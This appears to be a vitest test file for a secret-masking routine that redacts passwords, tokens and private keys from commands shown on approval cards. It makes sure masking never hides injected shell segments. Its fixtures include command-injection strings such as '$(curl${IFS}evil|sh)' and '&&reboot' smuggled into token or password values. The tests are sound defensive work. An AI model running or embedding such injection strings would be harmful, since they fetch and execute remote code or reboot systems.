import { describe, expect, it } from 'vitest'
import { maskSecrets } from '../../../src/approval/secret-mask.ts'
import { showCall } from '../../../src/approval/shown-command.ts'
import { createTranslate } from '../../../src/locale/index.ts'

describe('C4: a mask never covers what a shell would act on', () => {
  it.each([
    ['echo token=abcd$(curl${IFS}evil|sh)', '$(curl${IFS}evil|sh)'],
    ['echo token=abcd`reboot`', '`reboot`'],
    ['echo authorization: token abcdef;curl${IFS}evil|sh', ';curl${IFS}evil|sh'],
    ['run --password=abcdef&&reboot', '&&reboot'],
    ['curl http://a:bcd;reboot;@host', ';reboot;'],
    [
      'echo -----BEGIN PRIVATE KEY-----; curl evil | sh; echo -----END PRIVATE KEY-----',
      '; curl evil | sh; echo ',
    ],
    ['echo -----BEGIN PRIVATE KEY-----\nreboot\n-----END PRIVATE KEY-----', '\nreboot\n'],
  ])('%s', (command, runs) => {
    expect(maskSecrets(command).text).toContain(runs)
  })
})

it.each([
  ['curl -H "Authorization: Bearer abc.def-ghi"', 'curl -H "Authorization: Bearer ••••(11)"'],
  ['mysql --password=hunter22 db', 'mysql --password=••••(8) db'],
  ['git clone https://me:s3cr3t@host/x', 'git clone https://me:••••(6)@host/x'],
  ['PASSWORD=$FROM_VAULT run', 'PASSWORD=$FROM_VAULT run'],
  ['DB_PASSWORD=hunter22 mysqldump db', 'DB_PASSWORD=••••(8) mysqldump db'],
  ['AWS_SECRET_KEY=abcd1234 aws s3 ls', 'AWS_SECRET_KEY=••••(8) aws s3 ls'],
  ['密码：hunter22', '密码：••••(8)'],
  ['run --max-tokens=4000', 'run --max-tokens=4000'],
  [
    `-----BEGIN RSA PRIVATE KEY-----\n${'a'.repeat(64)}\nQ==\n-----END RSA PRIVATE KEY-----`,
    '-----BEGIN RSA PRIVATE KEY-----\n••••(64)\nQ==\n-----END RSA PRIVATE KEY-----',
  ],
])('hides the value and nothing else: %s', (text, shown) => {
  expect(maskSecrets(text)).toEqual({ text: shown, masked: text === shown ? 0 : 1 })
})

describe('C4: no secret stands on a card, in whichever language its arguments are told', () => {
  const args = {
    password: 'hunter22secret',
    api_key: 'abcdEFGH1234',
    headers: { authorization: 'Basic aGVsbG86d29ybGQ=', 'x-access-token': 'abcdefgh' },
    note: 'authorization: Bearer abcdefghijkl',
  }
  it.each(['zh-CN', 'en'] as const)('%s', (locale) => {
    const call = {
      ...{ tool: 'mcp__crm__login', args, env: {}, command: null, cwd: null },
      ...{ timeoutMs: null, sandboxProfile: null, paths: [] },
    }
    const { code } = showCall(call, createTranslate(locale), 4_000)
    for (const secret of ['hunter22secret', 'abcdEFGH1234', 'aGVsbG86d29ybGQ', 'abcdefgh'])
      expect(code).not.toContain(secret)
  })
})
